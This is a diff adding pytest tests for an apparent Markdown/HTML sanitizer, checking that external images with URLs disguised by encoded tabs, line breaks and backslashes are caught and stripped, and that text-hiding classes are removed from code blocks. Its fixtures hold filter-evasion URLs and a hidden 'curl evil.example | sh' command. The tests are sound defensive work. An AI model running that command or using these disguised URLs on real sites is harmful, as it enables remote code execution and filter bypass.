@@ -178,6 +178,32 @@ def test_external_images_are_found_with_their_lines() -> None:
     assert [(r.line, r.fragment) for r in found] == [(3, "https://evil.example/a.png")]
 
 
+#: Images from another host that a browser reads so once it drops tabs and line breaks and takes "\\" for "/".
+DISGUISED_IMAGES = ["/&#10;\\evil.example/a.png", "/&#13;\\evil.example/b.png", "/&#9;/evil.example/c.png",
+                    "\\/evil.example/d.png", " //evil.example/e.png", "&#1;//evil.example/f.png"]
+
+
+def test_images_from_another_host_are_found_and_removed_however_the_url_is_disguised() -> None:
+    body = "".join(f"![{i}]({url})\n\n" for i, url in enumerate(DISGUISED_IMAGES)) + "![local](img/ok.png)\n"
+    assert [r.line for r in inspect_body(body).external_images] == [1, 3, 5, 7, 9, 11]
+    for url in DISGUISED_IMAGES:
+        assert "src" not in sanitize_html(f'<p><img src="{url}" alt="x"></p>'), url
+    assert 'src="img/ok.png"' in sanitize_html('<img src="img/ok.png" alt="x">')
+
+
+def test_in_a_code_block_only_highlighting_classes_are_kept_and_nothing_hides_text() -> None:
+    hidden = ('<div class="highlight"><pre><span></span><code><span class="n">pip</span> install'
+              '<span class="headerlink"> ; curl evil.example | sh</span>'
+              '<a class="footnote-backref note" href="#x">!</a> &lt;div class="headerlink"&gt;</code></pre></div>')
+    cleaned = sanitize_html(hidden)
+    assert cleaned == ('<div class="highlight"><pre><span></span><code><span class="n">pip</span> install'
+                       '<span> ; curl evil.example | sh</span><a href="#x">!</a> &lt;div class="headerlink"&gt;'
+                       "</code></pre></div>")  # the code's own text is left as it is
+    # Outside code blocks the theme's hover-only classes stay on links, and only there.
+    assert sanitize_html('<h2 id="a">A<a class="headerlink" href="#a">¶</a></h2>').count('class="headerlink"') == 1
+    assert sanitize_html('<span class="headerlink footnote-backref note">x</span>') == '<span class="note">x</span>'
+
+
 def test_unsafe_settings_are_named() -> None:
     assert unsafe_settings(["toc", "pymdownx.snippets", "tables"], ["search", "macros", "casebook"]) == [
         "markdown extension 'pymdownx.snippets'", "plugin 'macros'",
